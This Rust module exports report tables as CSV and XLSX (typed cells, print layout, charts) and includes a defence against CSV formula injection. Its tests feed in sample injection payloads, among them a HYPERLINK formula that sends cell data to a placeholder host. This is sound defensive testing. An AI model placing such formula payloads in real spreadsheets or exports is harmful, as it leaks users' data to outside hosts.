//! One way to write a table, for every download and report, with two outputs of the
//! same cells: CSV (UTF-8, a header row, then the rows; files a person opens get a
//! byte-order mark so Excel reads the accents right) and XLSX (one sheet per table,
//! the notes on top, a frozen header, widths that fit, DNIs and ubigeos as text,
//! dates as dates, an optional column chart).

use crate::i18n::Locales;
use chrono::{Datelike, NaiveDate, NaiveDateTime, Timelike};
use rust_xlsxwriter::{Chart, ExcelDateTime, Format, Workbook as Xlsx, Worksheet, XlsxError};

/// One cell, typed so each output writes it right: a `Text` is never a number (a DNI
/// or ubigeo keeps its leading zero), a `Date` is a date in Excel.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Text(String),
    Int(i64),
    /// A number shown with this many decimals.
    Num(f64, u8),
    Date(NaiveDate),
    /// Lima wall-clock time.
    DateTime(NaiveDateTime),
    /// A length of time in seconds, shown as h:mm:ss.
    Duration(i64),
    Empty,
}

impl Cell {
    pub fn text(s: impl Into<String>) -> Cell {
        Cell::Text(s.into())
    }

    /// A value that may be missing: empty when it is.
    pub fn opt<T>(v: Option<T>, f: impl FnOnce(T) -> Cell) -> Cell {
        v.map_or(Cell::Empty, f)
    }

    /// The cell as CSV writes it (ISO dates, so a downloaded list reads back).
    fn csv(&self) -> String {
        match self {
            Cell::Text(s) => s.clone(),
            Cell::Int(n) => n.to_string(),
            Cell::Num(v, d) => format!("{v:.*}", usize::from(*d)),
            Cell::Date(d) => d.to_string(),
            Cell::DateTime(t) => t.format("%Y-%m-%d %H:%M").to_string(),
            Cell::Duration(s) => hms(*s),
            Cell::Empty => String::new(),
        }
    }

    /// The cell as a person reads it on paper (dates dd/mm/aaaa).
    pub fn display(&self) -> String {
        match self {
            Cell::Date(d) => d.format("%d/%m/%Y").to_string(),
            Cell::DateTime(t) => t.format("%d/%m/%Y %H:%M").to_string(),
            other => other.csv(),
        }
    }

    /// About how many characters wide it shows.
    fn width(&self) -> usize {
        match self {
            Cell::Date(_) => 10,
            Cell::DateTime(_) => 16,
            other => other.csv().chars().count(),
        }
    }
}

/// "1:02:03".
pub fn hms(secs: i64) -> String {
    let s = secs.max(0);
    format!("{}:{:02}:{:02}", s / 3600, s / 60 % 60, s % 60)
}

/// The lines on top of every sheet: its title with "datos al dd/mm/aaaa", and the
/// Ley 29733 reminder that the file holds protected personal data.
pub fn sheet_notes(locales: &Locales, lang: &str, title: &str, as_of: NaiveDate) -> Vec<String> {
    vec![
        locales.t_args(
            lang,
            "sheet-title",
            &[
                ("title", title.into()),
                ("date", as_of.format("%d/%m/%Y").to_string().into()),
            ],
        ),
        locales.t(lang, "sheet-ley-29733"),
    ]
}

/// A header and its rows.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Table {
    /// The sheet's name in a workbook (at most 31 characters; Excel's limit).
    pub name: String,
    pub header: Vec<String>,
    pub rows: Vec<Vec<Cell>>,
    /// A column chart of one numeric column against a label column.
    pub chart: Option<ColumnChart>,
}

/// A column chart of a table's `values` column by its `labels` column.
#[derive(Debug, Clone, PartialEq)]
pub struct ColumnChart {
    pub title: String,
    pub labels: usize,
    pub values: usize,
    /// What a full bar stands for in a PDF (100 for a percentage); none: the
    /// largest value.
    pub full: Option<f64>,
}

impl Table {
    pub fn new(name: impl Into<String>, header: &[&str]) -> Table {
        Table {
            name: name.into(),
            header: header.iter().map(|h| (*h).to_owned()).collect(),
            rows: vec![],
            chart: None,
        }
    }

    /// A table whose name and column headers are messages in `lang` (their keys).
    pub fn localized(locales: &Locales, lang: &str, name_key: &str, header_keys: &[&str]) -> Table {
        Table {
            name: locales.t(lang, name_key),
            header: header_keys.iter().map(|k| locales.t(lang, k)).collect(),
            rows: vec![],
            chart: None,
        }
    }

    pub fn push(&mut self, row: Vec<Cell>) {
        self.rows.push(row);
    }

    /// The table as CSV text.
    pub fn to_csv(&self) -> Vec<u8> {
        write_csv(
            &self.header,
            self.rows.iter().map(|r| r.iter().map(Cell::csv).collect()),
        )
    }
}

/// Which output a person asked for: XLSX unless they ask for CSV.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum FileFormat {
    #[default]
    Xlsx,
    Csv,
}

impl FileFormat {
    pub fn parse(s: &str) -> Option<FileFormat> {
        match s.trim().to_ascii_lowercase().as_str() {
            "xlsx" => Some(FileFormat::Xlsx),
            "csv" => Some(FileFormat::Csv),
            _ => None,
        }
    }

    pub fn extension(self) -> &'static str {
        match self {
            FileFormat::Xlsx => "xlsx",
            FileFormat::Csv => "csv",
        }
    }

    pub fn mime_type(self) -> &'static str {
        match self {
            FileFormat::Xlsx => "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            FileFormat::Csv => "text/csv",
        }
    }
}

/// Tables with the notes every sheet carries on top (the title and "datos al …", the
/// Ley 29733 reminder): the document a chat receives or the CLI writes.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Document {
    pub notes: Vec<String>,
    pub tables: Vec<Table>,
}

impl Document {
    pub fn new(notes: Vec<String>, tables: Vec<Table>) -> Document {
        Document { notes, tables }
    }

    /// The tables without the notes (so a downloaded list reads back with the
    /// importer), a blank line between two tables. What a chat sends carries a
    /// byte-order mark.
    pub fn to_csv(&self) -> Vec<u8> {
        let blocks: Vec<Vec<u8>> = self.tables.iter().map(Table::to_csv).collect();
        blocks.join(&b"\n"[..])
    }

    /// The file in `format`; a CSV meant for a person carries the byte-order mark.
    pub fn render(&self, format: FileFormat) -> Result<Vec<u8>, super::DocumentError> {
        match format {
            FileFormat::Xlsx => Ok(self.to_xlsx()?),
            FileFormat::Csv => Ok(for_excel(self.to_csv())),
        }
    }

    /// One sheet per table, the notes in the first rows of each, the header frozen
    /// under them.
    pub fn to_xlsx(&self) -> Result<Vec<u8>, XlsxError> {
        let mut book = Xlsx::new();
        let bold = Format::new().set_bold();
        let head = Format::new()
            .set_bold()
            .set_background_color(0xDDEBF7)
            .set_text_wrap();
        let date = Format::new().set_num_format("dd/mm/yyyy");
        let datetime = Format::new().set_num_format("dd/mm/yyyy hh:mm");
        let duration = Format::new().set_num_format("[h]:mm:ss");
        let text = Format::new().set_num_format("@");
        for table in &self.tables {
            let sheet = book.add_worksheet();
            sheet.set_name(sheet_name(&table.name))?;
            for (i, note) in self.notes.iter().enumerate() {
                let r = row_num(i);
                if i == 0 {
                    sheet.write_string_with_format(r, 0, note, &bold)?;
                } else {
                    sheet.write_string(r, 0, note)?;
                }
            }
            let header_row = row_num(self.notes.len() + usize::from(!self.notes.is_empty()));
            // A long header wraps (its cells are set to) rather than widen its
            // column past its longest word, so a wide matrix still prints readably.
            let mut widths: Vec<usize> = table.header.iter().map(|h| header_width(h)).collect();
            for (c, h) in table.header.iter().enumerate() {
                sheet.write_string_with_format(header_row, col_num(c), h, &head)?;
            }
            for (i, row) in table.rows.iter().enumerate() {
                let r = header_row + 1 + row_num(i);
                for (c, cell) in row.iter().enumerate() {
                    if let Some(w) = widths.get_mut(c) {
                        *w = (*w).max(cell.width());
                    }
                    let c = col_num(c);
                    match cell {
                        Cell::Text(s) => {
                            sheet.write_string_with_format(r, c, s, &text)?;
                        }
                        Cell::Int(n) => {
                            sheet.write_number(r, c, *n as f64)?;
                        }
                        Cell::Num(v, d) => {
                            let f = if *d == 0 {
                                "0".to_owned()
                            } else {
                                format!("0.{}", "0".repeat(usize::from(*d)))
                            };
                            sheet.write_number_with_format(
                                r,
                                c,
                                *v,
                                &Format::new().set_num_format(f),
                            )?;
                        }
                        Cell::Date(d) => {
                            sheet.write_datetime_with_format(r, c, excel_date(*d)?, &date)?;
                        }
                        Cell::DateTime(t) => {
                            let at = excel_date(t.date())?.and_hms(
                                u16::try_from(t.hour()).unwrap_or(0),
                                u8::try_from(t.minute()).unwrap_or(0),
                                t.second(),
                            )?;
                            sheet.write_datetime_with_format(r, c, at, &datetime)?;
                        }
                        Cell::Duration(s) => {
                            sheet.write_number_with_format(
                                r,
                                c,
                                (*s).max(0) as f64 / 86_400.0,
                                &duration,
                            )?;
                        }
                        Cell::Empty => {}
                    }
                }
            }
            for (c, w) in widths.iter().enumerate() {
                // Room for the filter arrow; long free text wraps past 60.
                sheet.set_column_width(col_num(c), (*w as f64 + 2.0).clamp(6.0, 60.0))?;
            }
            sheet.set_freeze_panes(header_row + 1, 0)?;
            print_setup(sheet, self.notes.first(), &widths, header_row)?;
            if !table.rows.is_empty() && !table.header.is_empty() {
                sheet.autofilter(
                    header_row,
                    0,
                    header_row + row_num(table.rows.len()),
                    col_num(table.header.len() - 1),
                )?;
            }
            if let Some(spec) = &table.chart {
                chart(sheet, table, spec, header_row)?;
            }
        }
        book.save_to_buffer()
    }
}

/// How wide a header wants its column: all of it up to 16 characters, else its
/// longest word (the rest wraps onto more lines).
fn header_width(header: &str) -> usize {
    let longest = header.split_whitespace().map(|w| w.chars().count()).max();
    header.chars().count().min(16).max(longest.unwrap_or(0))
}

/// Wider than this (in characters; an A4 portrait page holds about 95 at full size,
/// so this is about 80 % scale, still readable) a sheet prints landscape.
const PORTRAIT_CHARS: usize = 120;

/// How a sheet prints: on A4, landscape when its columns are wide, every column on
/// the page's width (as many pages down as it needs), the notes and the header row
/// repeated on each page, the title in the page header and "page n / m" below.
fn print_setup(
    sheet: &mut Worksheet,
    title: Option<&String>,
    widths: &[usize],
    header_row: u32,
) -> Result<(), XlsxError> {
    const A4: u8 = 9;
    sheet.set_paper_size(A4);
    let wide: usize = widths.iter().map(|w| (w + 2).clamp(6, 60)).sum();
    if wide > PORTRAIT_CHARS {
        sheet.set_landscape();
    }
    sheet.set_print_fit_to_pages(1, 0);
    sheet.set_repeat_rows(0, header_row)?;
    if let Some(title) = title {
        // `&` starts a code in a page header; Excel's limit is 255 characters.
        let title: String = title.replace('&', "&&").chars().take(200).collect();
        sheet.set_header(format!("&C{title}"));
    }
    sheet.set_footer("&C&P / &N");
    Ok(())
}

fn chart(
    sheet: &mut Worksheet,
    table: &Table,
    spec: &ColumnChart,
    header_row: u32,
) -> Result<(), XlsxError> {
    if table.rows.is_empty() {
        return Ok(());
    }
    let name = sheet_name(&table.name);
    let (first, last) = (header_row + 1, header_row + row_num(table.rows.len()));
    let mut chart = Chart::new_column();
    chart
        .add_series()
        .set_name(table.header.get(spec.values).map_or("", String::as_str))
        .set_categories((
            name.as_str(),
            first,
            col_num(spec.labels),
            last,
            col_num(spec.labels),
        ))
        .set_values((
            name.as_str(),
            first,
            col_num(spec.values),
            last,
            col_num(spec.values),
        ));
    chart.title().set_name(&spec.title);
    chart.legend().set_hidden();
    sheet.insert_chart(header_row, col_num(table.header.len() + 1), &chart)?;
    Ok(())
}

fn excel_date(d: NaiveDate) -> Result<ExcelDateTime, XlsxError> {
    ExcelDateTime::from_ymd(
        u16::try_from(d.year()).unwrap_or(1900),
        u8::try_from(d.month()).unwrap_or(1),
        u8::try_from(d.day()).unwrap_or(1),
    )
}

/// Excel refuses names over 31 characters and some symbols.
fn sheet_name(name: &str) -> String {
    let clean: String = name
        .chars()
        .filter(|c| !matches!(c, '[' | ']' | ':' | '*' | '?' | '/' | '\\'))
        .take(31)
        .collect();
    if clean.trim().is_empty() {
        "Hoja1".to_owned()
    } else {
        clean
    }
}

fn row_num(i: usize) -> u32 {
    u32::try_from(i).unwrap_or(u32::MAX)
}

fn col_num(i: usize) -> u16 {
    u16::try_from(i).unwrap_or(u16::MAX)
}

/// The table as CSV text, every cell made safe to open in a spreadsheet
/// ([`neutralise`]).
pub fn write_csv<R, F, H>(header: &[H], rows: R) -> Vec<u8>
where
    R: IntoIterator<Item = Vec<F>>,
    F: AsRef<str>,
    H: AsRef<str>,
{
    let mut out = csv::Writer::from_writer(vec![]);
    // Writing to memory cannot fail but for a record of another length, which the
    // callers' fixed headers rule out; a failed record is left out, never half-written.
    let _ = out.write_record(header.iter().map(|h| neutralise(h.as_ref()).into_owned()));
    for row in rows {
        let _ = out.write_record(row.iter().map(|c| neutralise(c.as_ref()).into_owned()));
    }
    out.into_inner().unwrap_or_default()
}

/// A CSV cell a spreadsheet will not run as a formula (OWASP's "CSV injection"
/// rule): text starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
/// leading `'`, which Excel and LibreOffice show as text. A plain number ("-3",
/// "-1.5") is left as it is: it is no formula, and a report's figures stay figures.
/// Every CSV the project writes goes through here.
pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    let dangerous = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let number = cell.strip_prefix('-').is_some_and(|n| {
        !n.is_empty()
            && n.parse::<f64>().is_ok()
            && n.chars().all(|c| c.is_ascii_digit() || c == '.')
    });
    if dangerous && !number {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// The same CSV, marked UTF-8 for Excel: what a chat receives as a file.
pub fn for_excel(csv: Vec<u8>) -> Vec<u8> {
    let mut out = b"\xEF\xBB\xBF".to_vec();
    out.extend(csv);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_table_is_a_header_and_quoted_rows() {
        let csv = write_csv(
            &["codigo", "jurisdiccion"],
            [vec!["CTG-1".to_owned(), "Acoria, Huancavelica".to_owned()]],
        );
        assert_eq!(
            String::from_utf8(csv.clone()).unwrap_or_default(),
            "codigo,jurisdiccion\nCTG-1,\"Acoria, Huancavelica\"\n"
        );
        assert!(for_excel(csv).starts_with(b"\xEF\xBB\xBFcodigo"));
    }

    #[test]
    fn typed_cells_write_as_csv_text() {
        let mut t = Table::new("Lista", &["dni", "fecha", "n", "pct", "tiempo", "vacío"]);
        t.push(vec![
            Cell::text("01234567"),
            Cell::Date(NaiveDate::from_ymd_opt(2026, 11, 2).unwrap_or_default()),
            Cell::Int(3),
            Cell::Num(12.345, 1),
            Cell::Duration(3723),
            Cell::Empty,
        ]);
        let csv = String::from_utf8(t.to_csv()).unwrap_or_default();
        assert_eq!(
            csv,
            "dni,fecha,n,pct,tiempo,vacío\n01234567,2026-11-02,3,12.3,1:02:03,\n"
        );
        let xlsx = Document::new(vec!["Título".into()], vec![t]).to_xlsx();
        assert!(xlsx.is_ok_and(|b| b.starts_with(b"PK")));
    }

    #[test]
    fn a_cell_a_spreadsheet_would_run_is_written_as_text() {
        let mut t = Table::new("Lista", &["entidad", "n"]);
        for danger in [
            "=HYPERLINK(\"http://x\"&A1,\"ver\")",
            "+51987",
            "-2+3",
            "@SUM(A1)",
            "\tcmd",
            "\rcmd",
        ] {
            t.push(vec![Cell::text(danger), Cell::Int(-4)]);
        }
        t.push(vec![
            Cell::text("Municipalidad = buena"),
            Cell::Num(-1.5, 1),
        ]);
        let csv = String::from_utf8(t.to_csv()).unwrap_or_default();
        let mut rows = csv::Reader::from_reader(csv.as_bytes());
        let cells: Vec<(String, String)> = rows
            .records()
            .flatten()
            .map(|r| (r[0].to_owned(), r[1].to_owned()))
            .collect();
        assert_eq!(cells.len(), 7);
        for (cell, n) in &cells[..6] {
            assert!(cell.starts_with('\''), "{cell:?} left as a formula");
            assert_eq!(n, "-4", "a negative number stays a number");
        }
        assert_eq!(cells[6], ("Municipalidad = buena".into(), "-1.5".into()));
    }
}
